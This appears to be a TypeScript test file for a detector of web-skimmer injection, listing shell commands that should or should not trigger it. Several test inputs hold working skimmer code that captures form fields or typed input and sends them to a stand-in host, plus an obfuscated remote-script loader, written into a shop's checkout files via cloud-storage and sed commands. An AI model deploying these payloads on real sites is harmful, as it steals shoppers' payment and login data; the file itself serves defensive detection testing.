import { blank, indicatorTable, script, UNSEEN } from '../testing.ts';
import { commandPageSkimmer } from './page-skimmer.ts';

const SKIMMER =
  "document.addEventListener('submit',function(e){var d={};new FormData(e.target).forEach(function(v,k){d[k]=v});navigator.sendBeacon('https://stats.example.net/p',btoa(JSON.stringify(d)))});";
const released = (code: string, name = 'checkout.min.js'): string =>
  `aws s3 cp s3://shop-static/js/${name} /tmp/${name}\ncat >> /tmp/${name} <<'J'\n${code}\nJ\naws s3 cp /tmp/${name} s3://shop-static/js/${name}`;

indicatorTable(commandPageSkimmer, {
  fires: {
    'what a form sends': script(released(SKIMMER)),
    'what is typed, in the address of a picture': script(
      released(
        "document.querySelectorAll('input').forEach(function(i){i.addEventListener('change',function(){new Image().src='https://stats.example.net/?'+encodeURIComponent(i.value)})});",
      ),
    ),
    'a page of another storage': script(
      `gsutil cp gs://shop/index.html .\ncat >> index.html <<'J'\n<script>${SKIMMER}</script>\nJ\ngsutil cp index.html gs://shop/index.html`,
    ),
    'a script in the pages of a volume that hides where it loads from': script(
      `sed -i '1s|^|<script>var s=document.createElement("script");s.src=atob("Ly9jZG4uZXhhbXBsZS5uZXQvYy5qcw==");document.head.appendChild(s)</script>|' /srv/checkout.html`,
    ),
  },
  staysSilent: {
    'settings of a page that are encoded': script(
      `sed -i "s|</head>|<script>window.__ENV__=JSON.parse(atob('eyJhIjoxfQ=='))</script></head>|" /usr/share/nginx/html/index.html`,
    ),
    'a script with its address in the pages of an image': script(
      `sed -i 's|</head>|<script src="https://stats.example.net/s.js"></script></head>|' /usr/share/nginx/html/index.html`,
    ),
    'visits that are counted': script(
      released("navigator.sendBeacon('https://stats.example.net/p',JSON.stringify({path:location.pathname}));"),
    ),
    'a form that goes to its own page': script(
      released(
        "document.forms[0].addEventListener('submit',function(e){fetch('/api/orders',{method:'POST',body:JSON.stringify({})})});",
      ),
    ),
    'a banner of a licence': script(released('/* (c) 2026 Example */')),
    'a bundle that is built and released': script(
      'npm ci && npm run build && aws s3 sync dist/ s3://shop-static/ && aws s3 cp dist/app.js s3://shop-static/app.js',
    ),
    'such a script that stays': script(`cat > /tmp/a.js <<'J'\n${SKIMMER}\nJ\nnode --check /tmp/a.js`),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});
